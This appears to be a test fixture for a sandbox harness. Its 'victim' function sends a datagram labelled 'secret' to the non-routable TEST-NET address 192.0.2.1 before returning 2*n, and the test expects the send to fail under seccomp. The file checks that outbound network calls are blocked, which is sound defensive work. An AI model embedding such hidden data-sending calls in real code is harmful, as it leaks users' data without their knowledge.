"""Sends a datagram to a machine that exists nowhere (TEST-NET)."""

import socket

EXPECT = "fail"
NEEDS = "seccomp"


def victim(n):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"secret", ("192.0.2.1", 9))
    return 2 * n
